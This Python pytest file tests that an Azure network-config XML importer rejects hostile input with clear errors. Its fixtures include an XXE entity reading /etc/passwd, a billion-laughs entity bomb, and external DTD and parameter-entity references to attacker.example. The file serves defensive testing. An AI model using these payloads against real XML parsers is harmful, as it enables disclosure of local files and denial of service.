"""Hostile and broken XML: every case is an InputError naming the file, never a traceback, never
an entity expanded, never an output file. The inputs are generated here, never shipped."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from sim.common.errors import InputError
from sim.importers import import_asm, import_netcfg, write_estate

ASM_NS = "http://schemas.microsoft.com/windowsazure"
NETCFG_NS = "http://schemas.microsoft.com/ServiceHosting/2011/07/NetworkConfiguration"

GOOD = (
    f'<VirtualNetworkSites xmlns="{ASM_NS}"><VirtualNetworkSite><Name>vnet-a</Name>'
    "</VirtualNetworkSite></VirtualNetworkSites>"
)

XXE = f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE VirtualNetworkSites [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<VirtualNetworkSites xmlns="{ASM_NS}">
  <VirtualNetworkSite><Name>&xxe;</Name></VirtualNetworkSite>
</VirtualNetworkSites>
"""

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'
        for i in range(1, 10)
    )
    + f']>\n<VirtualNetworkSites xmlns="{ASM_NS}"><VirtualNetworkSite><Name>&lol9;</Name>'
    "</VirtualNetworkSite></VirtualNetworkSites>\n"
)

PLAIN_DTD = f'<?xml version="1.0"?>\n<!DOCTYPE VirtualNetworkSites>\n{GOOD}\n'
EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE VirtualNetworkSites SYSTEM "http://attacker.example/evil.dtd">\n'
    f"{GOOD}\n"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE r [\n'
    '  <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">\n  %remote;\n]>\n'
    f"{GOOD}\n"
)
TRUNCATED = (
    f'<VirtualNetworkSites xmlns="{ASM_NS}">\n  <VirtualNetworkSite>\n'
    "    <Name>vnet-a</Name>\n    <AddressSpace><AddressPref"
)
WRONG_NS = '<VirtualNetworkSites xmlns="http://example.com/not-azure"><X/></VirtualNetworkSites>'

# (file text, text the message must hold, the line it must name)
CASES: dict[str, tuple[str | bytes, str, int | None]] = {
    "xxe": (XXE, "external entity 'xxe' ('file:///etc/passwd')", 3),
    "billion-laughs": (BILLION_LAUGHS, "entity 'lol'", 3),
    "plain-dtd": (PLAIN_DTD, "document type declaration", 2),
    "external-dtd": (EXTERNAL_DTD, "http://attacker.example/evil.dtd", 2),
    "parameter-entity": (PARAMETER_ENTITY, "external entity 'remote'", 3),
    "truncated": (TRUNCATED, "truncated", 4),
    "not-xml": ("name,address\nvnet-a,10.0.0.0/16\n", "is not XML", 1),
    "binary": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "is not XML", 1),
    "empty-file": ("", "is empty", 1),
    "wrong-namespace": (
        WRONG_NS,
        f"expected a Service Management API response in namespace {ASM_NS!r}",
        1,
    ),
}


def hostile_folder(tmp_path: Path, content: str | bytes) -> Path:
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "a-good.xml").write_text(GOOD, encoding="utf-8")  # a good file does not help
    target = folder / "networking-virtualnetwork.xml"
    if isinstance(content, bytes):
        target.write_bytes(content)
    else:
        target.write_text(content, encoding="utf-8")
    return folder


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_asm_folder(tmp_path: Path, case: str) -> None:
    content, expected, line = CASES[case]
    folder = hostile_folder(tmp_path, content)
    out = tmp_path / "estate.yaml"
    started = time.monotonic()
    with pytest.raises(InputError) as exc:
        write_estate(import_asm(folder), out)
    assert time.monotonic() - started < 5
    err = exc.value
    assert err.file == str(folder / "networking-virtualnetwork.xml")
    assert expected in err.message
    assert err.line == line
    assert "networking-virtualnetwork.xml" in err.render()
    assert "root:" not in err.render()  # /etc/passwd never read into the message
    assert not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export"]  # no temp file left either


@pytest.mark.parametrize("case", ["xxe", "billion-laughs", "plain-dtd", "truncated", "not-xml"])
def test_hostile_netcfg_file(tmp_path: Path, case: str) -> None:
    content, expected, line = CASES[case]
    assert isinstance(content, str)
    content = content.replace(ASM_NS, NETCFG_NS).replace(
        "VirtualNetworkSites", "NetworkConfiguration"
    )
    path = tmp_path / "netcfg.xml"
    path.write_text(content, encoding="utf-8")
    out = tmp_path / "estate.yaml"
    with pytest.raises(InputError) as exc:
        write_estate(import_netcfg(path), out)
    assert exc.value.file == str(path)
    assert expected in exc.value.message
    assert exc.value.line == line
    assert not out.exists()


def test_refusals_explain_why(tmp_path: Path) -> None:
    folder = hostile_folder(tmp_path, XXE)
    with pytest.raises(InputError) as exc:
        import_asm(folder)
    assert "refused" in exc.value.message and "XXE" in exc.value.message


def test_empty_folder(tmp_path: Path) -> None:
    folder = tmp_path / "empty"
    folder.mkdir()
    out = tmp_path / "estate.yaml"
    with pytest.raises(InputError) as exc:
        write_estate(import_asm(folder), out)
    assert exc.value.message == f"no Service Management XML files found in {folder}"
    assert exc.value.file == str(folder)
    assert not out.exists()


def test_xml_suffix_directory_is_not_a_file(tmp_path: Path) -> None:
    folder = tmp_path / "export"
    (folder / "trap.xml").mkdir(parents=True)
    with pytest.raises(InputError, match="no Service Management XML files found"):
        import_asm(folder)


def test_undefined_entity_without_dtd(tmp_path: Path) -> None:
    folder = hostile_folder(tmp_path, GOOD.replace("vnet-a", "&secret;"))
    with pytest.raises(InputError) as exc:
        import_asm(folder)
    assert "undefined entity" in exc.value.message
    assert exc.value.line == 1


def test_deep_nesting_is_not_a_crash(tmp_path: Path) -> None:
    depth = 20_000
    body = "<X>" * depth + "</X>" * depth
    folder = hostile_folder(
        tmp_path,
        f'<VirtualNetworkSites xmlns="{ASM_NS}"><VirtualNetworkSite><Name>v</Name>{body}'
        "</VirtualNetworkSite></VirtualNetworkSites>",
    )
    result = import_asm(folder)  # unknown elements are counted, never walked
    assert "unknown element X (once) in networking-virtualnetwork.xml" in result.warnings
